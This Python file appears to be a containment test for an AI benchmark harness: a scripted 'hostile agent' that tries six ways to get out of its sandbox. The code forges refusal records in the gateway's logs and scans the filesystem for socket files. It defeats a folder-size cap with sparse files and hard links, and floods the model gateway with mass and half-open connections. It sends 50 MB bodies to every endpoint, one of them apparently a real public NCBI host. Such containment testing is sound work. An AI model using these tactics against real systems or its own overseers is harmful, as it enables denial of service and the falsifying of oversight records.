"""A hostile agent that tries six ways past its own question (issue 55), standard
library only, and answers with what each got (JSON in its ``answer``):

1. sockets through io_uring and a user-mode userfaultfd (:mod:`uring`, beside it);
2. records of its own: refusals written to the tool gateway's ``/_refused`` (direct,
   through the public hosts' front), with counts of 40 and 4,300 digits, a runner
   report of numbers no float holds, an error named as helixbench's own;
3. a folder past its cap once copied out: sparse files and hard links;
4. a flood: $FLOOD connections at once to the model gateway, then $HALF_OPEN
   connections held half-open while it asks once more, and a body of $BODY_MB MB at
   every door;
5. a repeated parameter in both orders (term=A&term=B, term=B&term=A);
6. max_tokens of -5 and 10^30, and what its PATH names.

Which parts run: $BREAKOUT (a comma list of 1..6; all by default)."""

from __future__ import annotations

import json
import os
import selectors
import socket
import ssl
import sys
import time
import urllib.error
import urllib.request
from urllib.parse import urlsplit

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

MODEL = os.environ["OPENAI_BASE_URL"].rstrip("/")
TOOLS = os.environ["HELIXBENCH_TOOLS_URL"].rstrip("/")
MCP = os.environ["HELIXBENCH_MCP_URL"]
TOKEN = os.environ["OPENAI_API_KEY"]
PARTS = set(os.environ.get("BREAKOUT", "1,2,3,4,5,6").split(","))
FLOOD = int(os.environ.get("FLOOD", "500"))
HALF_OPEN = int(os.environ.get("HALF_OPEN", "600"))
BODY_MB = int(os.environ.get("BODY_MB", "50"))
FRONT = "https://eutils.ncbi.nlm.nih.gov"


def status(url: str, data: bytes | None = None, headers: dict | None = None) -> int | str:
    request = urllib.request.Request(url, data, headers or {}, method="POST" if data else "GET")
    try:
        with urllib.request.urlopen(request, timeout=60) as reply:
            return reply.status
    except urllib.error.HTTPError as exc:
        return exc.code
    except (OSError, ValueError) as exc:
        return type(exc).__name__


def read(url: str) -> str:
    try:
        with urllib.request.urlopen(url, timeout=60) as reply:
            return reply.read().decode()
    except urllib.error.HTTPError as exc:
        return f"HTTP {exc.code}"


def forge() -> dict:
    """Refusals of its own choosing, through every way in it has."""
    huge = "9" * 4300
    queries = [
        f"syscall=forged&detail=FORGED&count={huge}",
        "name=FORGED.example&count=" + "1" * 40,
        "door=busy&port=1&count=99999",
        "host=FORGED&port=1&count=77777",
    ]
    found = {}
    for i, query in enumerate(queries):
        found[f"tools {i}"] = status(f"{TOOLS}/_refused?{query}")
        found[f"front {i}"] = status(f"{FRONT}/_refused?{query}")
        found[f"model {i}"] = status(f"{MODEL}/_refused?{query}")
    # The sockets it would need: the gateways' folder lies outside its root.
    found["sockets seen"] = [
        os.path.join(top, name)
        for top, _, names in os.walk("/")
        if not top.startswith(("/proc", "/sys", "/usr"))
        for name in names
        if name.endswith(".sock")
    ]
    return found


def fill_folder() -> dict:
    """A folder whose files the tmpfs holds in about 1 MiB, and a host copy would hold
    in full: sparse files (an answer after a hole) and hard links."""
    hole = 600 << 20
    with open("answer.json", "wb") as out:
        out.seek(hole)
        out.write(json.dumps({"answer": "AFTER THE HOLE"}).encode() + b"\n")
    with open("sparse.bin", "wb") as out:
        out.truncate(700 << 20)
    with open("one.bin", "wb") as out:
        out.write(os.urandom(1 << 20))
    for i in range(200):
        os.link("one.bin", f"link-{i:03d}.bin")
    return {"apparent_mb": round(sum(os.path.getsize(n) for n in os.listdir(".")) / 2**20)}


def _request(path: str) -> bytes:
    host = urlsplit(MODEL).netloc
    return (
        f"GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {TOKEN}\r\n"
        "Connection: close\r\n\r\n"
    ).encode()


def flood() -> dict:
    """FLOOD connections at once, each asking /v1/models: how many got a reply, and
    which statuses; then HALF_OPEN connections held (half of them with half a head)
    while it asks once more; then a body of BODY_MB MB at every door."""
    address = (urlsplit(MODEL).hostname, urlsplit(MODEL).port)
    path = urlsplit(MODEL).path + "/models"
    sockets = []
    for _ in range(FLOOD):
        each = socket.create_connection(address, timeout=60)
        sockets.append(each)
    for each in sockets:
        each.sendall(_request(path))
    statuses: dict[str, int] = {}
    with selectors.DefaultSelector() as waiting:  # (threads are capped: processes)
        for each in sockets:
            waiting.register(each, selectors.EVENT_READ)
        deadline = time.monotonic() + 60
        while waiting.get_map() and time.monotonic() < deadline:
            for key, _ in waiting.select(timeout=1):
                try:
                    first = key.fileobj.recv(64).split(b" ")
                    said = first[1].decode() if len(first) > 1 else "none"
                except OSError as exc:
                    said = type(exc).__name__
                statuses[said] = statuses.get(said, 0) + 1
                waiting.unregister(key.fileobj)
                key.fileobj.close()
    held = []
    for i in range(HALF_OPEN):
        each = socket.create_connection(address, timeout=60)
        if i % 2:
            each.sendall(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\n")
        held.append(each)
    time.sleep(0.5)
    started = time.monotonic()
    during = status(f"{MODEL}/models", headers={"Authorization": f"Bearer {TOKEN}"})
    during_s = round(time.monotonic() - started, 3)
    for each in held:
        each.close()
    body = b"x" * (BODY_MB << 20)
    bodies = {
        "model": status(f"{MODEL}/chat/completions", body, {"Authorization": f"Bearer {TOKEN}"}),
        "tools": status(f"{TOOLS}/entrez/eutils/epost.fcgi", body),
        "mcp": status(MCP, body, {"Content-Type": "application/json"}),
        "front": status(f"{FRONT}/entrez/eutils/epost.fcgi", body),
    }
    return {
        "replies": sum(statuses.values()),
        "statuses": statuses,
        "during_half_open": during,
        "during_s": during_s,
        "bodies": bodies,
    }


def cache_keys() -> dict:
    base = f"{TOOLS}/entrez/eutils/esearch.fcgi?db=gene&retmode=json"
    return {
        "A,B": read(f"{base}&term=A&term=B"),
        "B,A": read(f"{base}&term=B&term=A"),
    }


def ceilings() -> dict:
    found = {}
    for value in (-5, 10**30):
        body = json.dumps({"messages": [{"role": "user", "content": "x"}], "max_tokens": value})
        headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
        found[str(value)] = status(f"{MODEL}/chat/completions", body.encode(), headers)
    found["PATH"] = os.environ.get("PATH", "")
    found["PATH exists"] = all(os.path.isdir(p) for p in found["PATH"].split(":") if p)
    return found


def main() -> None:
    question = json.loads(sys.stdin.readline())
    report: dict = {"id": question["id"]}
    steps = {"1": "uring", "2": "forge", "3": "folder", "4": "flood", "5": "keys", "6": "ceil"}
    for part, name in steps.items():
        if part not in PARTS:
            continue
        try:
            if name == "uring":
                import uring

                report[name] = uring.probe()
            else:
                done = {"forge": forge, "folder": fill_folder, "flood": flood}
                done |= {"keys": cache_keys, "ceil": ceilings}
                report[name] = done[name]()
        except Exception as exc:  # what it could not try is part of its report
            report[name] = {"failed": f"{type(exc).__name__}: {exc}"}
    reply = {
        "answer": json.dumps(report),
        "runner": {"sleep": {"asked_s": 1e308, "slept_s": "soon"}, "counts": 10**40},
    }
    print(json.dumps(reply))


if __name__ == "__main__":
    ssl._create_default_https_context = ssl.create_default_context  # (SSL_CERT_FILE)
    main()
